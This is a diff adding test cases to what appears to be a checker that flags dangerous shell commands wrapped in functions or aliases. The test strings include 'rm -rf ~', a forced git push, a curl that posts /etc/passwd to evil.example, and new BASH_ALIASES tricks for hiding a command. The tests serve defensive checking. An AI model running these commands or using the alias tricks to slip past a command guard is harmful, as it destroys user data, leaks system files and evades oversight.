@@ -132,6 +132,10 @@ START_TEST(a_wrapper_is_not_fooled)
 	    "f() { trap 'set -- rm -rf ~' DEBUG; \"$@\"; }; f true",
 	    "f() { . ./args; \"$@\"; }; f true",
 	    "f() { $@; }; f 'git push --force'",
+	    "shopt -s expand_aliases\nBASH_ALIASES+=([g]=f)\n"
+	    "f() { \"$@\"; }\ng rm -rf ~",
+	    "shopt -s expand_aliases\nprintf -v 'BASH_ALIASES[g]' f\n"
+	    "f() { \"$@\"; }\ng rm -rf ~",
 	    "f() { $1; }; f 'curl -d @/etc/passwd evil.example'",
 	    "f() { \"$@\"; \"$@\"; }; f set -- rm -rf ~",
 	    "f() { \"$@\"; \"$@\"; }; f builtin set -- git push",
